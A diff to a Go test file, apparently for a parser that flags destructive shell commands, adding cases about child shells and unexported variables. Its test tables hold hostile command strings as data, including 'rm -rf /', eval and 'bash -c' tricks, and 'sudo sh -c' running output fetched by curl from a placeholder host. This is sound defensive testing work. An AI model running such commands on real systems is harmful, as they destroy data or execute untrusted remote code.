@@ -674,6 +674,8 @@ func TestParseDeletesUnresolved(t *testing.T) {
 		{"cd / && mkdir -p made && cd made && rm -rf build", nil},
 		{"cd /; CDPATH=/usr; cd lib && rm -rf x", []string{"x"}},
 		{"cd / && cd tmp && rm -rf vouch-x", nil},
+		// A child's cd does not move this shell.
+		{"cd / && bash -c 'cd nowhere-vouch' && rm -rf vouch-x", nil},
 		{`find "$R" -delete`, []string{`"$R"`}},
 		{`mv "$A" b`, []string{`"$A"`}},
 		{`git rm -r "$P"`, []string{`"$P"`}},
@@ -704,6 +706,8 @@ func TestParseUnknown(t *testing.T) {
 		{`"$CMD" -rf /`, []string{`"$CMD"`}},
 		{"${x}rm -rf /", []string{"${x}rm"}},
 		{`X="rm -rf /"; $X`, []string{"$X"}},
+		// A child shell sees no unexported variable of this one.
+		{`x=ls; x=rm bash -c '$x -rf /'`, []string{"$x"}},
 		{`eval "$X"`, []string{`eval "$X"`}},
 		{`bash -c "$SCRIPT"`, []string{`bash -c "$SCRIPT"`}},
 		{`sudo sh -c "$(curl -s x.example)"`, []string{`sh -c "$(curl -s x.example)"`}},
